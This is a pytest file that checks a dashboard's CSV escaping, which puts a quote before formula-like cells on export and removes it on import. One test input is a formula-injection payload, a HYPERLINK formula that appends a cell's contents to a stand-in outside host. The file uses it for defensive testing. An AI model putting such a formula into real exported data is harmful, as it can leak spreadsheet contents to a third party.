"""CSV cells a spreadsheet cannot run: the quote before a formula, and taken away on import."""

from __future__ import annotations

import pytest

from dashboard.formats.csv_safe import from_cell, to_cell


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        (
            '=HYPERLINK("http://x.example/?"&A1,"click")',
            '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        ),
        ("+1 555 0100", "'+1 555 0100"),
        ("-bad day", "'-bad day"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tindented", "'\tindented"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # quotes before a formula: one more, so the import gives it back
        ("''+x", "'''+x"),
    ],
)
def test_a_formula_gets_a_quote_before_it(text: str, cell: str) -> None:
    assert to_cell(text) == cell
    assert from_cell(cell) == text


@pytest.mark.parametrize(
    "text",
    [
        "-3",
        "+1.5",
        "-0.25",
        "-.5",
        "-2e3",
        "",
        "a quiet evening",
        "it's =fine",
        "'quoted'",
        "'",
        "2026-01-10",
    ],
)
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert to_cell(text) == text
    assert from_cell(text) == text


def test_a_number_with_more_after_it_is_text() -> None:
    assert to_cell("-3 today") == "'-3 today"
    assert to_cell("+1+1") == "'+1+1"
    assert to_cell("-1_000") == "'-1_000"
